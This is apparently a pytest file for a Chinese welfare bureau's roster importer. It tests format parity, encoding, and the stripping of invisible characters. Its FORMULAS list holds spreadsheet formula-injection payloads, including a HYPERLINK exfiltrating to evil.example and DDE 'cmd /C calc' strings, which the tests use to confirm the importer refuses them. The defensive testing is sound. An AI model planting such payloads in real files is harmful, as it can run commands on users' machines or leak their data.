"""The roster as the bureau really has it: the same file saved as .xlsx, .xls, .ods or CSV by
LibreOffice imports the same people with the same invalid rows; names that would run as formulas
are refused quickly, row by row; invisible characters never reach the register."""

from __future__ import annotations

import io
import time
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from cards.models import Beneficiary
from cards.services import roster_file
from tests.cards.conftest import HEADER, make_id, person_row, roster_csv
from tests.conftest import cli_ok

DATA = Path(__file__).resolve().parents[2] / "data"
CATEGORIES = ("低保", "优抚", "特困")
TODAY = date(2026, 12, 1)


def _read(data: bytes, name: str) -> tuple[list[roster_file.RosterRow], list[str], str]:
    valid, errors, encoding, _ = roster_file.read_roster(
        data, name, categories=CATEGORIES, today=TODAY
    )
    return valid, [str(e) for e in errors], encoding


def _count(session) -> int:
    n = session.scalar(select(func.count()).select_from(Beneficiary))
    session.rollback()
    return n


def _as_csv(source: str, encoding: str) -> bytes:
    book = load_workbook(DATA / source, read_only=True)
    lines = [
        ",".join("" if c is None else str(c) for c in row)
        for row in book.worksheets[0].iter_rows(values_only=True)
    ]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


@pytest.mark.parametrize(
    ("name", "kind"),
    [("roster_lo.xlsx", "xlsx"), ("roster_lo.xls", "xls"), ("roster_lo.ods", "ods")],
)
def test_each_saved_format_gives_the_same_people_and_invalid_rows(name: str, kind: str) -> None:
    base = _read((DATA / "roster.xlsx").read_bytes(), "roster.xlsx")
    valid, errors, encoding = _read((DATA / name).read_bytes(), name)
    assert encoding == kind
    assert (valid, errors) == base[:2]
    assert len(valid) + len(errors) == 200


@pytest.mark.parametrize(("encoding", "found"), [("utf-8", "UTF-8"), ("gbk", "GBK")])
def test_the_roster_as_csv_gives_the_same_people(encoding: str, found: str) -> None:
    base = _read((DATA / "roster.xlsx").read_bytes(), "roster.xlsx")
    valid, errors, shown = _read(_as_csv("roster.xlsx", encoding), "roster.csv")
    assert shown == found and (valid, errors) == base[:2]


@pytest.mark.parametrize("name", ["roster_lo.xls", "roster_lo.ods"])
def test_xls_and_ods_rosters_import_through_the_command_line(cli, session, name: str) -> None:
    out = cli_ok(cli("beneficiaries", "import", str(DATA / name)))
    assert "新增 200 人" in out and "未写入" in out
    cli_ok(cli("beneficiaries", "import", str(DATA / name), "--commit"))
    assert _count(session) == 200


def test_an_unreadable_roster_is_one_chinese_line_and_exit_1(cli, tmp_path) -> None:
    path = tmp_path / "名单.xlsx"
    path.write_bytes((DATA / "encrypted.xlsx").read_bytes())
    result = cli("beneficiaries", "import", str(path), "--commit")
    assert result.exit_code == 1
    assert "设了打开密码的 Excel 文件" in result.stderr and "Traceback" not in result.output
    assert len(result.stderr.strip().splitlines()) == 1


def test_an_id_stored_as_a_number_names_the_programs_not_excel_alone() -> None:
    for name in ("awkward.xlsx", "awkward.xls", "awkward.ods"):
        _, errors, _ = _read((DATA / name).read_bytes(), name)
        first = next(e for e in errors if e.startswith("第 2 行"))
        assert "被表格软件（Excel、WPS 或 LibreOffice）存成了数字" in first, name


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&C2,"张三")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # a full-width equals sign becomes "=" when the name is normalised
]


def _formula_roster() -> bytes:
    """The bureau's roster with every name a formula (as text: what a hostile file holds)."""
    source = load_workbook(DATA / "roster.xlsx")
    book = Workbook()
    sheet = book.active
    for number, row in enumerate(source.worksheets[0].iter_rows(values_only=True), start=1):
        cells = list(row)
        if number > 1:
            cells[1] = FORMULAS[number % len(FORMULAS)]
        sheet.append(cells)
        if number > 1:
            sheet.cell(number, 2).data_type = "s"  # kept as text, as a hostile file would
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_formula_roster_is_refused_row_by_row_in_under_a_second() -> None:
    data = _formula_roster()
    started = time.perf_counter()
    valid, errors, _ = _read(data, "名单.xlsx")
    elapsed = time.perf_counter() - started
    print(f"formula roster (200 rows): refused in {elapsed * 1000:.0f} ms")
    assert valid == [] and len(errors) == 200
    assert all("像是表格公式而不是姓名" in e for e in errors)
    assert errors[0].startswith("第 2 行：姓名“")
    assert elapsed < 2.0  # under a second on a quiet machine; CI shares its two cores


def test_a_formula_roster_changes_nothing(cli, session, tmp_path) -> None:
    path = tmp_path / "名单.xlsx"
    path.write_bytes(_formula_roster())
    started = time.perf_counter()
    result = cli("beneficiaries", "import", str(path), "--commit")
    assert time.perf_counter() - started < 3.0
    assert result.exit_code == 1 and "像是表格公式" in result.output
    assert _count(session) == 0


def test_a_formula_name_in_a_csv_is_refused_too() -> None:
    data = roster_csv([person_row(1, name="=1+1"), person_row(2, name="张三")])
    valid, errors, _ = _read(data, "名单.csv")
    assert [v.name for v in valid] == ["张三"]
    assert errors == ["第 2 行：姓名“=1+1”以“=”开头，像是表格公式而不是姓名"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_invisible_characters_never_reach_the_register(cli, session, tmp_path, kind) -> None:
    names = ["\u202e张三云", "李\u200b四\u200d", "王\u00ad五\u2066", "\ufeff赵六\u061c"]
    rows = [person_row(n + 1, name=name) for n, name in enumerate(names)]
    if kind == "csv":
        path = tmp_path / "名单.csv"
        path.write_bytes(roster_csv(rows))
    else:
        book = Workbook()
        book.active.append(HEADER)
        for row in rows:
            book.active.append(row)
        path = tmp_path / "名单.xlsx"
        book.save(path)
    cli_ok(cli("beneficiaries", "import", str(path), "--commit"))
    stored = sorted(session.scalars(select(Beneficiary.name)))
    session.rollback()
    assert stored == sorted(["张三云", "李四", "王五", "赵六"])


def test_the_same_person_with_an_invisible_character_is_no_change(cli, tmp_path) -> None:
    path = tmp_path / "名单.csv"
    path.write_bytes(roster_csv([person_row(1, name="张三云")]))
    cli_ok(cli("beneficiaries", "import", str(path), "--commit"))
    path.write_bytes(roster_csv([person_row(1, name="张\u200b三云\u202c", id_number=make_id(1))]))
    out = cli_ok(cli("beneficiaries", "import", str(path)))
    assert "信息变更 0 人" in out
